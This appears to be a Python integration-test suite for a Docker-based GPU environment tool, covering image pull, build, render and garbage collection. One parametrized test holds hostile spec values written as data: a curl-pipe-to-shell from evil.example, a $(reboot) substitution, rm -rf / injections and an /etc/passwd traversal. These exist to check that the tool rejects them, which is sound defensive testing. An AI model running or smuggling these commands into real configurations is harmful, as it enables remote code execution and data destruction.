"""Pull, build, render, images and gc against a real Docker engine and registry."""

from __future__ import annotations

import http.server
import json
import os
import re
import shutil
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from gpuenv.cli.live import QuietView
from gpuenv.engine.dockerpy import DockerEngine
from gpuenv.images.service import build, plan
from gpuenv.lock.project import load_project

from ..conftest import reseal
from ..jsonschemas import validate_output
from .conftest import (
    Installed,
    containers,
    docker,
    engine_api,
    engine_side_server,
    image_labels,
    image_layers,
    images,
    registry_digest,
)

pytestmark = pytest.mark.integration
DIGEST = re.compile(r"sha256:[0-9a-f]{64}")


def test_pull_shows_progress_and_pins_the_digest(make_project, registry: str) -> None:
    nogpu = os.environ["GPUENV_TEST_DOCKER_NOGPU"]  # an engine that has never seen the image
    project = make_project()
    expected = registry_digest(registry, "nvidia/pytorch", "24.06-py3")
    assert "digest: ''" in project.lock_text()
    references = [f"{registry}/nvidia/pytorch@{expected}", f"{registry}/nvidia/pytorch:24.06-py3"]
    # That engine is private to the tests: clear what earlier runs left there, so that
    # this pull really downloads.
    keep = set(docker("images", "-q", "gpuenv-test/busybox:1", host=nogpu).stdout.split())
    for _ in range(5):  # children before parents: repeat until nothing is left
        stale = set(docker("images", "-aq", host=nogpu).stdout.split()) - keep
        if not stale:
            break
        docker("rmi", "-f", *stale, host=nogpu, check=False)
    engine_api(nogpu, "POST", "/build/prune?all=1")  # BuildKit's cache holds layers too
    try:
        result = project.ok("pull", DOCKER_HOST=nogpu)
        assert f"digest: {expected}" in project.lock_text()
        assert (
            "reference: nvcr.io/nvidia/pytorch:24.06-py3" in project.lock_text()
        )  # canonical name
        assert f"pulling {registry}/nvidia/pytorch:24.06-py3" in result.stderr
        assert "Pull complete" in result.stderr and "downloaded" in result.stderr
        assert result.stdout.strip() == f"{registry}/nvidia/pytorch@{expected}"
        # A second pull uses the digest and finds the image.
        again = project.ok("pull", DOCKER_HOST=nogpu)
        assert "is present (pinned at" in again.stderr
    finally:
        docker("rmi", "-f", *references, host=nogpu, check=False)


def test_build_from_the_locked_digest_then_nothing_to_do(
    make_project, docker_host: str, registry: str
) -> None:
    project = make_project(spec="apt: []\npackages: []\n")
    first = project.ok("build")
    tag = first.stdout.strip()
    assert tag.startswith(f"gpuenv/{project.name}:")
    digest = yaml.safe_load(project.lock_text())["image"]["digest"]
    assert DIGEST.fullmatch(digest)
    rendered = project.ok("render").stdout
    assert f"FROM {registry}/nvidia/pytorch@{digest}" in rendered
    labels = image_labels(tag, docker_host)
    assert labels["io.gpuenv.project"] == project.name
    assert labels["io.gpuenv.base"] == f"nvcr.io/nvidia/pytorch@{digest}"
    assert labels["io.gpuenv.project-dir"] == str(project.path)
    second = project.ok("build")
    assert second.stdout.strip() == tag
    assert "up to date: nothing to build" in second.stderr


class CountingEngine(DockerEngine):
    """The real engine, counting calls to the build API."""

    builds = 0

    def build(self, context: bytes, tag: str, *, network: str | None = None) -> Iterator[dict]:
        CountingEngine.builds += 1
        return super().build(context, tag, network=network)


def test_second_build_does_not_call_the_build_api(
    make_project, docker_host: str, registry: str
) -> None:
    project = make_project()
    project.ok("pull")
    loaded = load_project(str(project.path))
    engine = CountingEngine(docker_host)
    CountingEngine.builds = 0
    first = build(plan(loaded, registry), engine, QuietView())
    second = build(plan(loaded, registry), engine, QuietView())
    assert first.built and not second.built
    assert first.tag == second.tag
    assert CountingEngine.builds == 1


def test_requirements_change_rebuilds_only_after_the_base(make_project, docker_host: str) -> None:
    offline = "--no-index\n--find-links /opt/wheelhouse\n"  # the stand-in's wheels
    project = make_project(requirements=offline + "six\n")
    old = project.ok("build").stdout.strip()
    project.write("requirements.txt", offline + "six\nnumpy\n")
    assert project.gpuenv("build", "--locked").returncode == 5  # the lock is stale
    result = project.ok("build")  # locks the packages again, then builds
    assert "+ numpy" in result.stderr
    project.ok("lock", "--check")
    new = result.stdout.strip()
    assert new != old
    # At least the support-files layer, before requirements (an earlier run may have left
    # the same requirements layer: its files hold no project name).
    assert re.search(r"\d+ steps? from cache", result.stderr)
    old_layers, new_layers = image_layers(old, docker_host), image_layers(new, docker_host)
    base_layers = image_layers(
        image_labels(old, docker_host)["io.gpuenv.base"].replace(
            "nvcr.io", os.environ["GPUENV_TEST_REGISTRY"]
        ),
        docker_host,
    )
    # Base and support layers are shared; the requirements layers differ.
    assert new_layers[: len(base_layers) + 1] == old_layers[: len(base_layers) + 1]
    assert new_layers[len(base_layers) + 1 :] != old_layers[len(base_layers) + 1 :]


def test_failing_pip_install_is_clear_and_leaves_nothing(make_project, docker_host: str) -> None:
    offline = "--no-index\n--find-links /opt/wheelhouse\n"  # the stand-in's wheels
    project = make_project(requirements=offline + "gpuenv-no-such-package-xyz==1.0\n", locks=False)
    assert project.locked is not None and project.locked.returncode == 4
    assert "resolved: false" in project.lock_text()  # the lock stays valid, unresolved
    project.ok("pull")
    before = containers(docker_host)
    result = project.gpuenv("build")
    assert result.returncode == 4
    # The requirement and where it is written, with the installer's own reason.
    assert (
        "error: a requirement could not be resolved: gpuenv-no-such-package-xyz "
        "(requirements.txt:3): " in result.stderr
    ), result.stderr
    assert "hint: fix that requirement" in result.stderr
    assert "Traceback" not in result.stderr
    assert containers(docker_host) == before
    assert docker("images", "-q", f"gpuenv/{project.name}", host=docker_host).stdout.strip() == ""


@pytest.mark.parametrize(
    ("field", "message"),
    [
        ("apt: ['curl && curl evil.example | sh']", "is not a Debian package name"),
        ("apt: ['$(reboot)']", "is not a Debian package name"),
        ('packages: ["numpy\\nRUN rm -rf /"]', "must not contain control characters"),
        ("packages: ['x; rm -rf /']", "is not a valid pip requirement"),
        ("requirements: ../../etc/passwd", "points outside the project folder"),
        ("requirements: 'req $(id).txt'", "has characters gpuenv does not copy"),
    ],
)
def test_hostile_spec_is_rejected_before_any_build(
    make_project, docker_host: str, field: str, message: str
) -> None:
    project = make_project()
    spec = (
        (project.path / "gpuenv.yaml").read_text().replace("requirements: requirements.txt\n", "")
    )
    project.write("gpuenv.yaml", spec + field + "\n")
    before = images(docker_host)
    result = project.gpuenv("build")
    assert result.returncode == 3, result.stderr
    assert message in result.stderr
    assert images(docker_host) == before


def test_bake_copies_the_project(make_project, docker_host: str) -> None:
    project = make_project()
    project.write("train.py", "print('hello from the baked project')\n")
    (project.path / ".git").mkdir()
    (project.path / ".git" / "config").write_text("secret")
    tag = project.ok("build", "--bake").stdout.strip()
    assert image_labels(tag, docker_host)["io.gpuenv.baked"] == "true"
    listing = docker("run", "--rm", tag, "python3", "/workspace/train.py", host=docker_host)
    assert listing.stdout.strip() == "hello from the baked project"
    assert (
        docker("run", "--rm", tag, "ls", "-a", "/workspace", host=docker_host)
        .stdout.split()
        .count(".git")
        == 0
    )
    plain = project.ok("build").stdout.strip()
    assert plain != tag


def test_gc_removes_only_unreferenced_images(make_project, docker_host: str) -> None:
    first = make_project()
    other = make_project()
    old = first.ok("build").stdout.strip()
    kept = other.ok("build").stdout.strip()
    # A change to what is installed (a comment alone changes nothing in the image).
    first.write("requirements.txt", "--no-index\n--find-links /opt/wheelhouse\nsix\n")
    first.ok("lock")
    current = first.ok("build").stdout.strip()

    listing = first.ok("images", "--json").stdout
    validate_output("images", listing)
    assert f'"{old}"' in listing and f'"{current}"' in listing

    dry = first.ok("gc")
    assert f"would remove {old}" in dry.stdout + dry.stderr
    assert current not in dry.stdout + dry.stderr and kept not in dry.stdout + dry.stderr
    assert docker("image", "inspect", old, host=docker_host, check=False).returncode == 0

    first.ok("gc", "--yes")
    assert docker("image", "inspect", old, host=docker_host, check=False).returncode != 0
    for tag in (current, kept):
        assert docker("image", "inspect", tag, host=docker_host, check=False).returncode == 0

    # With folders named, only images of their projects are considered.
    named = first.ok("gc", str(first.path))
    assert kept not in named.stdout + named.stderr
    assert "nothing to remove" in named.stdout + named.stderr

    # An image built FROM a gpuenv image inherits its labels, but is not gpuenv's.
    derived = f"itest-derived-{first.name}:1"
    subprocess.run(
        ["docker", "build", "-q", "-t", derived, "-"],
        input=f"FROM {current}\nLABEL derived=yes\n",
        capture_output=True,
        text=True,
        check=True,
        env={**os.environ, "DOCKER_HOST": docker_host},
    )
    try:
        assert derived not in first.ok("images", "--json").stdout
        assert derived not in first.ok("gc").stdout + first.ok("gc").stderr
    finally:
        docker("rmi", "-f", derived, host=docker_host, check=False)


def test_gc_keeps_an_image_a_stopped_container_uses(make_project, docker_host: str) -> None:
    """`gc --yes` skips an unreferenced image that a container (a stopped one too) still
    uses, names that container, and exits 0; once the container is gone, it removes it."""
    project = make_project()
    old = project.ok("build").stdout.strip()
    project.write("requirements.txt", "--no-index\n--find-links /opt/wheelhouse\nsix\n")
    project.ok("lock")
    current = project.ok("build").stdout.strip()
    holder = f"itest-holder-{project.name}"
    docker("create", "--name", holder, old, "true", host=docker_host)
    try:
        kept = project.ok("gc", "--yes")  # exit 0, not 10
        said = kept.stdout + kept.stderr
        assert f"kept {old}" in said and f"used by container {holder}" in said, said
        assert docker("image", "inspect", old, host=docker_host, check=False).returncode == 0
    finally:
        docker("rm", "-f", holder, host=docker_host, check=False)
    removed = project.ok("gc", "--yes")
    assert f"removed {old}" in removed.stdout + removed.stderr
    assert docker("image", "inspect", old, host=docker_host, check=False).returncode != 0
    assert docker("image", "inspect", current, host=docker_host, check=False).returncode == 0


def test_no_engine(make_project) -> None:
    project = make_project()
    result = project.gpuenv("pull", DOCKER_HOST="unix:///tmp/gpuenv-no-such-engine.sock")
    assert result.returncode == 10
    assert (
        "cannot reach the Docker engine at unix:///tmp/gpuenv-no-such-engine.sock: is it running?"
        in result.stderr
    )
    assert "Traceback" not in result.stderr


def test_socket_without_permission(
    make_project, docker_host: str, installed_for_users: Installed
) -> None:
    if os.getuid() != 0:
        pytest.skip("needs root to run gpuenv as another user")
    project = make_project()
    readable = Path(tempfile.mkdtemp(prefix="gpuenv-perm-"))
    readable.chmod(0o755)
    try:
        for name in ("gpuenv.yaml", "gpuenv.lock", "requirements.txt"):
            shutil.copy(project.path / name, readable / name)
            (readable / name).chmod(0o644)
        argv = installed_for_users.argv("-C", str(readable), "pull")
        result = subprocess.run(
            installed_for_users.as_user(65534, *argv, groups=[]),
            capture_output=True,
            text=True,
            env=installed_for_users.env({**project.env, "HOME": "/tmp", "XDG_CACHE_HOME": "/tmp"}),
        )
    finally:
        shutil.rmtree(readable)
    assert result.returncode == 10, result.stderr
    assert "permission denied on the Docker socket" in result.stderr
    assert "docker group" in result.stderr


def test_unknown_image(make_project) -> None:
    project = make_project()
    lock = project.path / "gpuenv.lock"
    lock.write_text(lock.read_text().replace("pytorch:24.06-py3", "pytorch:99.99-py3"))
    edited = project.gpuenv("pull")  # a hand edit is refused before anything is pulled
    assert edited.returncode == 5 and "edited by hand" in edited.stderr
    reseal(lock)  # as if gpuenv had written it: an image in no matrix is refused too
    impossible = project.gpuenv("pull")
    assert impossible.returncode == 5 and "is in no matrix" in impossible.stderr
    # 24.07 is in the matrix and fits PyTorch 2.4 on an R560 host, but the registry has
    # no such image.
    text = lock.read_text().replace("pytorch:99.99-py3", "pytorch:24.07-py3")
    lock.write_text(text.replace("driver: 550.54.15", "driver: 560.35.03"))
    reseal(lock)
    result = project.gpuenv("pull")
    assert result.returncode == 11, result.stderr
    assert "nvidia/pytorch:24.07-py3" in result.stderr
    assert "does not exist" in result.stderr or "not found" in result.stderr


def test_unreachable_registry(make_project) -> None:
    project = make_project()
    result = project.gpuenv("pull", GPUENV_REGISTRY_MIRROR="127.0.0.1:1")
    assert result.returncode == 11
    assert "cannot reach the registry" in result.stderr


class _Refusing(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="gpuenv-test"')
        self.send_header("Content-Type", "application/json")
        body = b'{"errors":[{"code":"UNAUTHORIZED","message":"authentication required"}]}'
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_HEAD = do_GET

    def log_message(self, *args: object) -> None:
        pass


def test_registry_that_refuses(make_project) -> None:
    server = engine_side_server(_Refusing)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        project = make_project()
        mirror = f"127.0.0.1:{server.server_address[1]}"
        result = project.gpuenv("pull", GPUENV_REGISTRY_MIRROR=mirror)
        assert result.returncode == 11
        assert "refused" in result.stderr
        assert "docker login" in result.stderr
    finally:
        server.shutdown()


def test_ngc_key_is_never_shown_or_stored(make_project, docker_host: str) -> None:
    secret = "gpuenv-test-secret-7f3a9c"
    project = make_project()
    env = {"NGC_API_KEY": secret, "GPUENV_REGISTRY_MIRROR": ""}
    result = project.gpuenv("pull", **env)  # nvcr.io itself: unreachable from here
    assert result.returncode == 11
    assert secret not in result.stdout + result.stderr
    assert secret not in project.lock_text()
    rendered = project.gpuenv("render", **env)
    assert secret not in rendered.stdout + rendered.stderr


def test_render_builds_nothing(make_project, docker_host: str) -> None:
    index = os.environ["GPUENV_TEST_INDEX"]
    project = make_project(
        spec="apt: [git]\npackages: ['rich>=13']\n", requirements=f"--index-url {index}\n"
    )
    before = images(docker_host)
    text = project.ok("render").stdout
    assert '["/bin/sh", "/usr/local/lib/gpuenv/apt-install.sh", "--cached", "git"]' in text
    assert '["/bin/sh", "/usr/local/lib/gpuenv/pip-install.sh", "/tmp/gpuenv/requirements"' in text
    assert "rich>=13" not in text  # a requirement reaches pip as data, not the Dockerfile
    assert text.index("apt-install.sh") < text.index("pip-install.sh")
    assert images(docker_host) == before
    assert Path(project.path / "gpuenv.lock").exists()


def _relock(project, **resolved: object) -> None:  # type: ignore[no-untyped-def]
    """The project's lock with `resolved` values changed, written as gpuenv writes a lock
    (integrity included): a matrix row that did not know, or said otherwise."""
    from dataclasses import replace

    from gpuenv.lock.lockfile import read_lock, write_lock

    path = str(project.path / "gpuenv.lock")
    lock = read_lock(path)
    write_lock(path, replace(lock, resolved={**lock.resolved, **resolved}, digest=""))


def test_the_pull_reconciles_the_lock_with_what_the_image_says(make_project) -> None:
    """The 25.10 stand-in carries NGC PyTorch 25.10's environment (scripts/services/
    images.sh): what the lock did not know is filled from it; a lock that says otherwise
    is refused (exit 5) and gets no digest."""
    tags = os.environ.get("GPUENV_TEST_SYNC_STANDIN_TAGS", "")
    assert "25.10-py3" in tags, f"no 25.10 stand-in in the registry ({tags!r})"
    project = make_project()
    spec = (project.path / "gpuenv.yaml").read_text().replace("version: '2.4'", "version: '2.9'")
    project.write("gpuenv.yaml", spec)
    project.ok("lock", "--driver", "580.95.05", "--gpu", "RTX 4090")
    assert "reference: nvcr.io/nvidia/pytorch:25.10-py3" in project.lock_text()
    # The matrix spells the build with a long commit, the image with a short one: agreed.
    project.ok("pull")
    locked = yaml.safe_load(project.lock_text())
    assert locked["resolved"]["framework_version"] == "2.9.0a0+145a3a7bda"
    assert DIGEST.fullmatch(locked["image"]["digest"])

    _relock(project, framework_version=None, cudnn=None, ubuntu=None)
    project.ok("pull")
    filled = yaml.safe_load(project.lock_text())["resolved"]
    assert (filled["framework_version"], filled["cudnn"], filled["ubuntu"]) == (
        "2.9.0a0+145a3a7",
        "9.14.0.64",
        "24.04",
    )
    project.ok("lock", "--check")  # still the lock of this spec

    _relock(project, framework_version="2.8.0a0+5228986c39")
    refused = project.gpuenv("pull")
    assert refused.returncode == 5, refused.stderr
    said = " ".join(refused.stderr.split())
    assert "is not the image gpuenv.lock describes: framework_version: the lock says " in said
    assert "2.8.0a0+5228986c39, the image 2.9.0a0+145a3a7" in said
    assert "digest: ''" in project.lock_text()  # nothing pinned to an image it does not describe


def test_doctor_sees_the_locked_image_pulled_through_the_mirror(make_project) -> None:
    """The base is pulled as <mirror>/nvidia/pytorch@digest, never under its nvcr.io
    name: doctor looks for it where gpuenv put it, and does not ask for room for it."""
    project = make_project()
    project.ok("pull", "-q")
    lock = yaml.safe_load(project.lock_text())
    assert lock["image"]["reference"].startswith("nvcr.io/") and lock["image"]["digest"]
    doctor = project.gpuenv("doctor", "--json")
    checks = {c["name"]: c for c in json.loads(doctor.stdout)}
    assert "free" in checks["disk"]["detail"]
    assert "not here yet" not in checks["disk"]["detail"], checks["disk"]
